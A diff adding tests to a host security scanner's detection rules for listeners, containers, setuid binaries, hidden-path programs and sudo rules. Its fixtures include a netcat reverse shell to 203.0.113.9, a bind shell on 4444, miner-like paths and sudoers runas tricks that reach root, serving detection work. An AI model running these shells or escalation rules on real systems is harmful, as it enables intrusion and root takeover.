@@ -34,6 +34,8 @@ test("documented default ports: media servers, Home Assistant, PaperCut, Seleniu
   t.equal(kept(proc(3, "python3", "/usr/local/bin/python3.13", "python3 -c 'import homeassistant' "), 8123), undefined, "the token in inline code is not Home Assistant");
   t.equal(kept(proc(4, "java", "/home/papercut/runtime/linux-x64/jre/bin/java", "java -classpath /home/papercut/server/lib/* biz.papercut.pcng.server.Server"), 9191), "port:papercut");
   t.equal(kept(proc(5, "go-dnscollecto", "/usr/local/bin/go-dnscollector", "/usr/local/bin/go-dnscollector -config /etc/dnscollector/config.yml"), 6000), "port:go-dnscollector");
+  t.equal(kept(proc(6, "interactsh-serv", "/usr/local/bin/interactsh-server", "/usr/local/bin/interactsh-server -domain oob.example.org -smb -ldap -ftp"), 389), "port:interactsh");
+  t.equal(kept(proc(6, "interactsh-serv", "/usr/local/bin/interactsh-server", "/usr/local/bin/interactsh-server -domain oob.example.org"), 4443), undefined, "on a port it does not serve");
 });
 
 test("on a bind shell's port only a program documented for that port, from a system or vendor directory", async (t) => {
@@ -41,18 +43,27 @@ test("on a bind shell's port only a program documented for that port, from a sys
   t.equal(listener(selenium, 4444)[0]?.kept_by, "port:selenium-grid", "Selenium Grid's hub on 4444");
   t.equal(listener({ ...selenium, path: "/tmp/java" }, 4444)[0]?.kept_by, undefined, "the same from /tmp");
   t.equal(listener(proc(7, "nc", "/usr/bin/nc.openbsd", "nc -lvnp 4444"), 4444)[0]?.severity, "high", "netcat on 4444");
-  t.equal(listener(proc(8, "mysqld", "/home/x/mysqld", "/home/x/mysqld"), 4444)[0]?.kept_by, undefined, "a mysqld outside the system directories on Galera's 4444");
-  t.equal(listener(proc(8, "mysqld", "/usr/sbin/mysqld", "/usr/sbin/mysqld --wsrep-on"), 4444)[0]?.kept_by, "port:mysql", "Galera's SST from the package");
+  t.equal(listener(proc(8, "mysqld", "/usr/sbin/mysqld", "/usr/sbin/mysqld --wsrep-on"), 4444)[0]?.kept_by, undefined, "mysqld never listens on Galera's SST port (socat or rsync does)");
+  t.equal(listener(proc(8, "java", "/usr/bin/java", "java -jar /tmp/payload.jar selenium-server"), 4444)[0]?.kept_by, undefined, "the token outside the jar java runs");
+  t.equal(listener(proc(8, "java", "/usr/bin/java", "java -jar /home/u/.x/selenium-server.jar"), 4444)[0]?.kept_by, undefined, "a jar in a hidden directory");
+  t.equal(listener(proc(8, "selenium", "/usr/bin/java", "java -jar /opt/selenium/selenium-server.jar"), 4444)[0]?.kept_by, undefined, "a retitled process (its name is not its executable's)");
+  t.equal(listener(proc(8, "python3", "/usr/bin/python3.11", "/dev/shm/homeassistant.py"), 8123)[0]?.kept_by, undefined, "a script in a temp directory");
+  t.equal(listener(proc(8, "kresd", "/home/u/kresd", "/home/u/kresd"), 443)[0]?.kept_by, undefined, "a DNS server's name on 443 from a home directory");
+  t.equal(listener(proc(8, "kresd", "/usr/sbin/kresd", "/usr/sbin/kresd -n"), 443)[0]?.kept_by, "port:dns-encrypted", "Knot Resolver's DoH");
   const proxy = (path: string) => proc(9, "docker-proxy", path, `${path} -proto tcp -host-ip 0.0.0.0 -host-port 8080 -container-ip 172.17.0.2 -container-port 80`);
   t.equal(listener(proxy("/usr/bin/docker-proxy"), 8080)[0]?.kept_by, "port:docker-proxy", "docker-proxy publishing a container's port");
   t.equal(listener(proxy("/tmp/docker-proxy"), 8080)[0]?.kept_by, undefined, "the name anywhere else");
   t.equal(listener(proxy("/usr/bin/docker-proxy"), 4444)[0]?.kept_by, undefined, "nor a published bind shell's port");
+  t.equal(listener({ ...proxy("/usr/bin/docker-proxy"), uid: "1000" }, 8080)[0]?.kept_by, undefined, "run by a user: a relay");
+  const loop = proc(9, "docker-proxy", "/usr/bin/docker-proxy", "/usr/bin/docker-proxy -proto tcp -host-ip 0.0.0.0 -host-port 31338 -container-ip 127.0.0.1 -container-port 31337");
+  t.equal(listener(loop, 31338)[0]?.kept_by, undefined, "towards loopback: a relay to a listener kept off the network");
 });
 
 test("setuid helpers of Arch and Alpine; others stay findings", async (t) => {
   const suid = (path: string) => findings("unexpected-suid", host({ suid_bin: [{ path, username: "root", groupname: "root", permissions: "S" }] }));
   for (const path of ["/usr/bin/unix_chkpwd", "/usr/bin/sg", "/usr/bin/doas"]) t.same(suid(path), [], path);
   t.equal(suid("/usr/local/bin/doas").length, 1, "doas elsewhere");
+  t.equal(findings("unexpected-suid", host({ suid_bin: [{ path: "/usr/bin/doas", username: "mallory", groupname: "mallory", permissions: "S" }] })).length, 1, "owned by someone other than root");
 });
 
 test("Home Assistant Supervised's containers from ghcr.io; the same names elsewhere or other mounts stay findings", async (t) => {
@@ -66,6 +77,12 @@ test("Home Assistant Supervised's containers from ghcr.io; the same names elsewh
   t.equal(findings("container-host-mount", host({ docker_containers: [core], docker_container_mounts: [mount("c1", "/root")] })).length, 1, "Core mounting /root");
   const mirror = ctr("m1", "/hassio_supervisor", "evil.example/home-assistant/amd64-hassio-supervisor:1", "0");
   t.equal(findings("docker-socket-mount", host({ docker_containers: [mirror], docker_container_mounts: [mount("m1", "/var/run/docker.sock")] })).length, 1, "the supervisor's name under another registry");
+  t.equal(findings("privileged-container", host({ docker_containers: [{ ...mirror, privileged: "1" }] })).length, 1, "privileged under another registry");
+  t.equal(findings("privileged-container", host({ docker_containers: [ctr("l1", "/hassio_supervisor", "home-assistant/amd64-hassio-supervisor:1", "1")] })).length, 1, "a local tag without a registry");
+  const shell = { ...supervisor, command: "bash -c 'nc -e /bin/sh 203.0.113.9 443'" };
+  t.equal(findings("privileged-container", host({ docker_containers: [shell] })).length, 1, "the real image running another command");
+  t.equal(findings("docker-socket-mount", host({ docker_containers: [shell], docker_container_mounts: [mount("s1", "/var/run/docker.sock")] })).length, 1, "nor its socket");
+  t.equal(findings("container-host-mount", host({ docker_containers: [{ ...core, name: "/x" }], docker_container_mounts: [mount("c1", "/dev")] })).length, 1, "Core's image under another name");
 });
 
 test("Nextflow's task scripts in their hash-named work directories, and Aspera's per-user install", async (t) => {
@@ -76,6 +93,12 @@ test("Nextflow's task scripts in their hash-named work directories, and Aspera's
   t.equal(run("/bin/bash /tmp/1d/306454214bbeebe9d78a6acce61a99/.cmd.sh").length, 1, "another hidden name there");
   t.equal(run("/bin/bash /var/tmp/.x/1d/306454214bbeebe9d78a6acce61a99/.command.sh").length, 1, "a hidden directory above it");
   t.same(alerts("hidden-system-path-exec", host({ processes: [proc(3, "ascp", "/home/pipeline/.aspera/connect/bin/ascp", "ascp -QT -l 500m x y", { uid: "1000" })] })), []);
+  for (const path of ["/usr/lib/1d/306454214bbeebe9d78a6acce61a99/.command.run", "/root/1d/306454214bbeebe9d78a6acce61a99/.command.sh", "/var/lib/1d/306454214bbeebe9d78a6acce61a99/.command.run"]) {
+    t.equal(alerts("hidden-system-path-exec", host({ processes: [proc(4, ".command.run", path, path)] })).length, 1, `a task layout in a system, temp or root's directory: ${path}`);
+  }
+  for (const path of ["/usr/lib/.aspera/kworker", "/var/tmp/.aspera/xmrig", "/root/.aspera/x", "/home/u/.aspera/x"]) {
+    t.equal(alerts("hidden-system-path-exec", host({ processes: [proc(5, "x", path, path)] })).length, 1, `.aspera anywhere but its install layout: ${path}`);
+  }
 });
 
 test("FastNetMon's packet socket from its package directory", async (t) => {
@@ -93,8 +116,14 @@ test("a sudo rule that runs commands as another user is a note; root, ALL or a l
   t.equal(rule("bob", "ALL=(postgres, root) NOPASSWD:ALL")[0]?.severity, undefined);
   t.equal(rule("bob", "ALL=(ALL,!root) NOPASSWD:ALL")[0]?.severity, undefined, "ALL but root is still ALL (sudo's -u#-1)");
   t.equal(rule("bob", "ALL=(bob2) NOPASSWD:ALL, (root) NOPASSWD: /bin/sh")[0]?.severity, undefined, "a later command as root");
-  t.same(rule("pi", "ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/010_pi-nopasswd"), [], "Raspberry Pi OS's rule for pi");
-  t.equal(rule("mallory", "ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/010_pi-nopasswd").length, 1, "another user in that file");
+  // What an adversarial review found the first reading let through: each may reach root.
+  for (const r of ["ALL=(bob) NOPASSWD: ALL : ALL= NOPASSWD: ALL", "ALL=(OP) NOPASSWD: ALL", "ALL=(:ALL) NOPASSWD: ALL", "ALL=(:disk) NOPASSWD: ALL", "ALL=(#00) NOPASSWD:ALL", 'ALL=("root") NOPASSWD:ALL', "ALL=(bob:root) NOPASSWD:ALL"]) {
+    t.equal(rule("bob", r)[0]?.severity, undefined, r);
+  }
+  const toor = findings("sudoers-nopasswd-all", host({ sudoers: [{ source: "/etc/sudoers", header: "bob", rule_details: "ALL=(toor) NOPASSWD: ALL" }], users: [{ username: "toor", uid: "0" }] }));
+  t.equal(toor[0]?.severity, undefined, "a runas account with uid 0");
+  t.equal(rule("bob", "ALL=(ALL) NOPASSWD: ALL # deploy")[0]?.severity, undefined, "a trailing comment does not hide the rule");
+  t.equal(rule("pi", "ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/010_pi-nopasswd").length, 1, "Raspberry Pi OS's rule for pi stays a finding: nothing here tells a Pi from another host");
 });
 
 test("fileless programs are asked of miners and of programs run from temporary directories", async (t) => {
